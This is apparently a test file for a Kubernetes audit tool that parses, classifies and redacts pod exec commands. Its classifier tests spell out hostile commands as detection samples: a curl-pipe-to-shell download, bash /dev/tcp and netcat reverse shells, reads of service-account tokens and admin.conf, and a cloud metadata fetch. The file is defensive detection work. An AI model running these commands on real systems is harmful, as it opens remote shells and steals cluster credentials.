import { expect } from 'chai';
import { classifyCommand, commandLine, execArgs, redactArgs, redactExecUri } from '../../../shared/audit/execCommand.js';
import { quarantineForm } from '../../../shared/audit/quarantineForm.js';
import { createRedactor } from '../../../shared/audit/redact.js';

const uri = (args: string[], rest = '&container=web&stdin=true&tty=true') => `/api/v1/namespaces/shop/pods/web-1/exec?${args.map((a) => `command=${encodeURIComponent(a)}`).join('&')}${rest}`;
const mask = (s: string) => `<${s.length}>`;

describe('exec command lines', () => {
  it('reads the command= arguments in order, decoding both escapes and +, and quotes them for display', () => {
    expect(execArgs(uri(['sh', '-c', 'echo "a b" > /tmp/x']))).to.deep.equal(['sh', '-c', 'echo "a b" > /tmp/x']);
    expect(execArgs('/api/v1/namespaces/a/pods/p/exec?command=ls+-la&command=%2Fapp&container=c')).to.deep.equal(['ls -la', '/app']);
    expect(execArgs('/api/v1/namespaces/a/pods/p/exec?container=c')).to.equal(null);
    // A malformed escape keeps the argument as sent rather than losing it.
    expect(execArgs('/api/v1/namespaces/a/pods/p/exec?command=%E0%A4%A&command=x')).to.deep.equal(['%E0%A4%A', 'x']);
    expect(commandLine(['sh', '-c', "echo 'hi' there"])).to.equal(`sh -c 'echo '\\''hi'\\'' there'`);
  });

  it('classifies shells, downloads, reverse shells, credential reads and the metadata service', () => {
    expect(classifyCommand(['/bin/bash'])).to.deep.equal(['shell']);
    expect(classifyCommand(['sh', '-c', 'curl -s http://x/y | sh'])).to.deep.equal(['shell', 'download']);
    expect(classifyCommand(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'])).to.include('reverse-shell');
    expect(classifyCommand(['nc', '203.0.113.5', '4444', '-e', '/bin/sh'])).to.include('reverse-shell');
    expect(classifyCommand(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'])).to.deep.equal(['service-account-token']);
    expect(classifyCommand(['cat', '/etc/kubernetes/admin.conf'])).to.deep.equal(['kubernetes-config']);
    expect(classifyCommand(['wget', '-qO-', 'http://169.254.169.254/latest/meta-data/'])).to.deep.equal(['download', 'cloud-metadata']);
    // Near misses: a shell named as an argument, a tool whose name contains curl.
    expect(classifyCommand(['ls', '/bin/sh'])).to.deep.equal([]);
    expect(classifyCommand(['mycurly', 'x'])).to.deep.equal([]);
  });

  it('redacts the secrets typed into arguments, by the documented patterns', () => {
    expect(redactArgs(['psql', '--password=hunter2', '-h', 'db'], mask)).to.deep.equal(['psql', '--password=<7>', '-h', 'db']);
    expect(redactArgs(['env', 'DB_PASSWORD=s3cret', 'API_TOKEN=abc', 'HOME=/root', 'app'], mask)).to.deep.equal(['env', 'DB_PASSWORD=<6>', 'API_TOKEN=<3>', 'HOME=/root', 'app']);
    expect(redactArgs(['vault', 'login', '--token', 'hvs.ABCDEF'], mask)).to.deep.equal(['vault', 'login', '--token', '<10>']);
    expect(redactArgs(['mysql', '-uroot', '-pTopSecret', 'shop'], mask)).to.deep.equal(['mysql', '-uroot', '-p<9>', 'shop']);
    expect(redactArgs(['sh', '-c', 'curl -H "Authorization: Bearer eyJhbGciOi.x.y" https://api && export AWS_SECRET_ACCESS_KEY=wJalr; git clone https://bob:pa55@git.example.com/r'], mask)).to.deep.equal([
      'sh', '-c', 'curl -H "Authorization: Bearer <14>" https://api && export AWS_SECRET_ACCESS_KEY=<5>; git clone https://bob:<4>@git.example.com/r',
    ]);
    // ls -p is not a password; a secret name without a value is not one either.
    expect(redactArgs(['ls', '-p', '/secrets'], mask)).to.deep.equal(['ls', '-p', '/secrets']);
  });

  it('rewrites only the command= parameters of a requestURI, and only when something is redacted', () => {
    const plain = uri(['ls', '-la']);
    expect(redactExecUri(plain, mask)).to.equal(plain);
    const secret = uri(['sh', '-c', 'PGPASSWORD=hunter2 psql'], '&container=db&stdout=true');
    const out = redactExecUri(secret, mask);
    expect(out).to.not.contain('hunter2');
    expect(out).to.match(/&container=db&stdout=true$/);
    expect(execArgs(out)).to.deep.equal(['sh', '-c', 'PGPASSWORD=<7> psql']);
  });
});

describe('exec arguments in quarantined input', () => {
  const redact = createRedactor(Buffer.alloc(32, 7));
  it('keeps no secret typed into an exec, whether the input decodes as JSON or is kept as an excerpt', () => {
    const event = { kind: 'Event', verb: 'create', requestURI: uri(['sh', '-c', 'PGPASSWORD=hunter2 psql']), objectRef: { resource: 'pods', subresource: 'exec' } };
    const json = quarantineForm(JSON.stringify(event), redact, 1 << 20).kept.toString('utf8');
    expect(json).to.not.contain('hunter2');
    expect(json).to.contain('PGPASSWORD%3Dkubetrail%3Aredacted%3A');
    const cut = quarantineForm(JSON.stringify(event).slice(0, -10), redact, 1 << 20).kept.toString('utf8');
    expect(cut).to.not.contain('hunter2');
    expect(cut).to.contain('command=kubetrail:redacted:masked');
  });
});
